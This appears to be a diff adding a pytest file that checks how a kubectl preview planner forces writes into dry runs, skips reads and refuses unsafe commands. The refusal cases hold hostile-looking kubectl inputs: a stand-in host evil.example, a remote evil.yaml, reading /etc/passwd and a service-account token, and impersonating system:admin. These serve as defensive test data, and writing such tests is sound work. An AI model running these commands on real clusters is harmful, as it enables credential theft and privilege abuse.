@@ -1,0 +1,59 @@
+"""Which commands a preview runs and how: kubectl's grammar, read from the argv."""
+
+from __future__ import annotations
+
+import pytest
+
+from wingman.preview.commands import Mode, plan
+from wingman.scope import parse
+
+
+@pytest.mark.parametrize(("command", "mode", "verb"), [
+    ("kubectl scale deployment/web --replicas=3 -n apps", Mode.DRY_RUN, "scale"),
+    ("kubectl -n apps scale deployment/web --replicas=3", Mode.DRY_RUN, "scale"),
+    ("kubectl --namespace apps delete deployment/web", Mode.DRY_RUN, "delete"),
+    ("kubectl -v 4 set image deployment/web web=nginx:1.27 -n apps", Mode.DRY_RUN, "set"),
+    ("kubectl rollout undo deployment/web -n apps", Mode.DRY_RUN, "rollout undo"),
+    ("kubectl rollout restart deployment/web -n apps", Mode.PROXY, "rollout restart"),
+    ("kubectl rollout pause deployment/web -n apps", Mode.PROXY, "rollout pause"),
+    ("kubectl get pods -n apps", Mode.READ_ONLY, "get"),
+    ("kubectl rollout status deployment/web -n apps", Mode.READ_ONLY, "rollout status"),
+])
+def test_writes_are_dry_runs_and_reads_are_not_run(command: str, mode: Mode, verb: str) -> None:
+    argv = parse(command)
+    p = plan(argv)
+    assert (p.mode, p.verb) == (mode, verb)
+    if mode is Mode.DRY_RUN:
+        # the exact argv, then --dry-run=server last, where kubectl's last flag wins
+        assert p.argv == (*argv, "--dry-run=server")
+    elif mode is Mode.PROXY:
+        assert p.argv == tuple(argv)  # the proxy alone makes its writes dry runs
+    else:
+        assert p.argv == ()
+
+
+def test_a_command_cannot_switch_the_dry_run_off() -> None:
+    p = plan(parse("kubectl scale deployment/web --replicas=3 --dry-run=none -n apps"))
+    assert p.argv[-1] == "--dry-run=server"
+
+
+@pytest.mark.parametrize(("command", "why"), [
+    ("kubectl exec web -n apps -- sh", "'--'"),
+    ("kubectl exec web -n apps", "interactive"),
+    ("kubectl port-forward svc/web 8080 -n apps", "interactive"),
+    ("kubectl create token default -n apps", "mints a credential"),
+    ("kubectl scale deployment/web --replicas=3 --server=https://evil.example", "--server"),
+    ("kubectl --kubeconfig=/etc/other scale deployment/web --replicas=3", "--kubeconfig"),
+    ("kubectl scale deployment/web --replicas=3 --as=system:admin", "--as"),
+    ("kubectl apply -f https://example.com/evil.yaml", "-f"),
+    ("kubectl apply -f/etc/passwd", "-f"),
+    ("kubectl create configmap x --from-file=/var/run/secrets/token", "--from-file"),
+    ("kubectl frobnicate deployment/web", "not a verb the preview knows"),
+    ("kubectl rollout frob deployment/web", "not a subcommand"),
+    ("kubectl --cheese scale deployment/web", "before the verb"),
+    ("kubectl -n apps", "names no kubectl verb"),
+])
+def test_what_cannot_be_dry_run_safely_is_refused_with_a_reason(command: str, why: str) -> None:
+    p = plan(parse(command))
+    assert p.mode is Mode.REFUSED and p.argv == ()
+    assert why in p.reason
